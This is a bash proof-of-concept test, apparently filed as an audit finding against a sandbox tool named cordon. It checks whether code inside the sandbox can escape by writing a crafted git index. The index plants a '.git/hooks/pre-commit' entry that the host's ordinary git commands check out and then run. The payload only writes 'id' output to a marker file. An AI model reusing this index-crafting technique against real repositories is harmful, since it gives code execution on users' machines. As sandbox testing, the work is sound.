#!/bin/bash
# Finding (class 2): .git/index stays writable inside (git add and commit need it), and an index is
# trusted by git on the host: an entry named `.git/hooks/pre-commit` (refused by `git add`, but written
# straight into the index file) is checked out by the host's ordinary commands into the real hooks
# directory, with mode 755; the next `git commit` runs it. Usage: CORDON=... findings/crafted-index.sh [CMD]
# CMD: the host's ordinary command (default: git stash). Run as root or any user.
set -u
CORDON=${CORDON:-$(pwd)/build/cordon}
CMD=${1:-git stash}
B=$(mktemp -d /var/tmp/atk.XXXXXX); chmod 755 "$B"; export HOME=$B/home; mkdir -p "$HOME"
git config --global user.email a@b; git config --global user.name a
W=$B/w; mkdir "$W"; cd "$W"; git init -q; echo a > a; git add a; git commit -qm c
M=$B/MARKER
cat > "$W/.mk.py" <<'PY'
import hashlib, struct, sys
ents = sorted(zip(sys.argv[2::2], sys.argv[3::2]))
body = b""
for name, sha in ents:
    n = name.encode()
    e = struct.pack(">IIIIIIIIII", 0, 0, 0, 0, 0, 0, 0o100755, 0, 0, 0) + bytes.fromhex(sha) + struct.pack(">H", len(n)) + n
    body += e + b"\0" * (8 - len(e) % 8)
data = b"DIRC" + struct.pack(">II", 2, len(ents)) + body
open(sys.argv[1], "wb").write(data + hashlib.sha1(data).digest())
PY
"$CORDON" run -- sh -c "
  b=\$(printf '#!/bin/sh\nid > $M\n' | git hash-object -w --stdin); a=\$(git rev-parse HEAD:a)
  python3 .mk.py .git/index a \$a .git/hooks/pre-commit \$b && rm .mk.py && echo 'index written inside'" 2>&1 | grep -v '^cordon: refused'
echo "host: $CMD"; $CMD >/dev/null 2>&1
ls -l "$W/.git/hooks/pre-commit" 2>/dev/null
git commit -q --allow-empty -m next >/dev/null 2>&1
rc=0; if [ -e "$M" ]; then echo "ESCAPE: after '$CMD', the host's git commit ran a hook from the crafted index: $(cat "$M")"; rc=1; else echo "held ($CMD)"; fi
rm -rf "$B"; exit $rc
